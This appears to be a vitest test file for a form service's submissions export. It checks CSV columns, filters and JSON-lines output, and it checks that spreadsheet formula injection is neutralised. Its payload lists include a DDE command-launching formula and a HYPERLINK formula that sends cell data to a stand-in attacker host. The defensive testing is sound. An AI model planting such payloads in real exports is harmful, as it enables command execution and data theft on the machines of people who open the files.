import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type TestProject, type World, world } from '../world.ts'
import { type FormSite, makeFormSite } from './form-site.ts'

// Exports of submissions. CSV is read back by a library, as a spreadsheet would.

let w: World
let owner: TestProject
let site: FormSite
beforeAll(async () => {
  w = await world({ worker: false })
})
afterAll(() => w?.[Symbol.asyncDispose]())

const get = (project: TestProject, path: string) => w.call(`GET /api/v1/forms/${path}`, { key: project.key })

/** Posts one after the other. */
async function post(to: FormSite, bodies: readonly object[]): Promise<void> {
  for (const body of bodies) expect((await to.post(body)).status).toBe(200)
}
const numbered = (count: number) => Array.from({ length: count }, (_, i) => ({ n: i + 1 }))
beforeEach(async () => {
  owner = await w.project('free')
  site = await makeFormSite(w, owner)
})
const exported = (query = '') => get(owner, `submissions/export${query}`)

/** The cells of the export, as a spreadsheet reads them: the header, then one row for each submission. */
async function cells(query = ''): Promise<string[][]> {
  const { status, headers, body } = await exported(query)
  expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8'])
  expect(headers.get('content-disposition')).toBe('attachment; filename="submissions.csv"')
  return parse(body, { record_delimiter: '\r\n' })
}

test('E35: CSV has the columns id, created_at, status and the fields', async () => {
  await post(site, [
    { name: 'Ada', note: null },
    { name: 'a "b"', text: 'x\r\ny', tags: ['1', 'b'], more: { a: [1] } },
    { name: ' x ', age: 5 },
  ])
  const [header, ...rows] = await cells()
  expect(header).toEqual(['id', 'created_at', 'status', 'age', 'name', 'more', 'tags', 'text', 'note'])
  expect(rows.map((row) => row.slice(2))).toEqual([
    ['verified', '5', ' x ', '', '', '', ''],
    ['verified', '', 'a "b"', '{"a":[1]}', '1\nb', 'x\r\ny', ''],
    ['verified', '', 'Ada', '', '', '', ''],
  ])
  for (const [id, at] of rows)
    expect([id, at]).toEqual([expect.stringMatching(/^[0-9a-f-]{36}$/), expect.stringMatching(/^20.*Z$/)])
})

/** What a spreadsheet takes for a formula. */
const formulas = [
  '=1+1',
  '+1',
  '-5',
  '@SUM(1)',
  '|calc',
  '%1',
  '\tx',
  '\rx',
  '\nx',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\t\r\nx',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff20a',
  ' \uff1d1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '=1,=2"',
]

test('E35 79: a value that begins a formula becomes text, and stays one cell', async () => {
  await post(site, [Object.fromEntries(formulas.map((text, i) => [`f${i}`, text]))])
  const [header = [], row = []] = await cells()
  const byName = Object.fromEntries(header.map((name, i) => [name, row[i]]))
  expect(formulas.map((_, i) => byName[`f${i}`])).toEqual(formulas.map((text) => `'${text}`))
})

test('E35 79: the name of a field that begins a formula becomes text', async () => {
  await post(site, [Object.fromEntries(formulas.map((text) => [text, 'x']))])
  const [header = []] = await cells()
  expect(header.slice(3).sort()).toEqual(formulas.map((text) => `'${text}`).sort())
})

test('E35 79: nothing in a value begins a cell or a row', async () => {
  const breaking = [
    '",=1',
    '"\r\n=1',
    'x\r\n=1',
    'x;=1',
    'x\t=1',
    '"',
    '""',
    "'",
    "'=1",
    'x"',
    ',',
    '\r',
    'x\n',
    '\u2028=1',
    '\u0085=1',
  ]
  await post(site, [Object.fromEntries(breaking.map((text, i) => [`f${i}`, text])), { list: ['=1', '+2'], map: { '=': '=' } }])
  const [header = [], lists = [], row = []] = await cells()
  expect(header).toHaveLength(3 + breaking.length + 2)
  const byName = (values: string[]) => Object.fromEntries(header.map((name, i) => [name, values[i]]))
  const asText = (text: string) => (/^[\r\u2028]/.test(text) ? `'${text}` : text.replace(/(?<=[;\t\r\n])=/, "'="))
  expect(breaking.map((_, i) => byName(row)[`f${i}`])).toEqual(breaking.map(asText))
  expect(byName(lists)).toMatchObject({ list: "'=1\n'+2", map: '{"=":"="}' })
})

test('E35 79: whatever is submitted, the export has its values in their columns, and no formula', async () => {
  const unit = fc.constantFrom('a', "'", '"', '=', '+', '-', '@', ',', ';', '\t', '\r', '\n', ' ', '\uff1d', '\u2028')
  const triple = fc.tuple(...Array.from({ length: 3 }, () => fc.string({ unit, maxLength: 6 })))
  const project = await w.project('enterprise')
  const run = fc.asyncProperty(fc.array(triple, { minLength: 10, maxLength: 12 }), async (rows) => {
    const one = await makeFormSite(w, project)
    await post(
      one,
      rows.map(([a, b, c]) => ({ a, b, c })),
    )
    const { body } = await get(project, `submissions/export?site=${one.id}`)
    const [, ...read] = parse(body, { record_delimiter: '\r\n' })
    const sent = rows.toReversed()
    expect(read.map((row) => row.length)).toEqual(sent.map(() => 6))
    for (const [r, row] of read.entries())
      for (const [i, text] of row.slice(3).entries()) {
        expect(text.replaceAll("'", '')).toBe(sent[r]?.[i]?.replaceAll("'", ''))
        expect(text).not.toMatch(/^\s*[=+\-@\uff1d]/)
      }
  })
  await fc.assert(run, { numRuns: 4 })
})

test('E35: lines of JSON have one submission each, and hidden content is nowhere', async () => {
  await post(site, [...numbered(10), { secret: 'hidden\u2028' }])
  const lines = (await exported('?format=jsonl')).body
    .trimEnd()
    .split('\n')
    .map((line: string) => JSON.parse(line))
  expect(lines.map(({ data }: any) => data.n)).toEqual([10, 9, 8, 7, 6, 5, 4, 3, 2, 1])
  expect(lines[0]).toMatchObject({ site_id: site.id, status: 'verified' })
  expect((await exported()).body).not.toMatch(/secret|hidden/)
})

test('E35: an export is whole, and takes the filters of the list', async () => {
  const project = await w.project('enterprise')
  const many = await makeFormSite(w, project)
  const rows = Array.from({ length: 5000 }, (_, i) => ({ n: `${i}`, [`field ${i % 250}`]: 'x' }))
  await w.db
    .insertInto('form_submissions')
    .values(
      rows.map((data) => ({
        project_id: project.id,
        site_id: many.id,
        status: 'verified' as const,
        charged: true,
        hidden_no: null,
        data,
        request_id: null,
        user_agent: null,
        created_at: new Date(),
      })),
    )
    .execute()
  const all = (await get(project, 'submissions/export')).body.trimEnd().split('\r\n')
  expect(all).toHaveLength(5001)
  expect(all[0].split(',')).toHaveLength(3 + 200 + 1)
  expect(all[0]).toMatch(/,other fields$/)
  const found = (await get(project, `submissions/export?q=4999&site=${many.id}&format=jsonl`)).body.trimEnd().split('\n')
  expect(found.map((line: string) => JSON.parse(line).data.n)).toEqual(['4999'])
  expect((await get(project, 'submissions/export?status=spam&format=jsonl')).body).toBe('')
})

test('an export of nothing has its header, and a wrong format is refused', async () => {
  expect((await exported()).body).toBe('id,created_at,status\r\n')
  expect((await exported('?format=xml')).status).toBe(422)
})
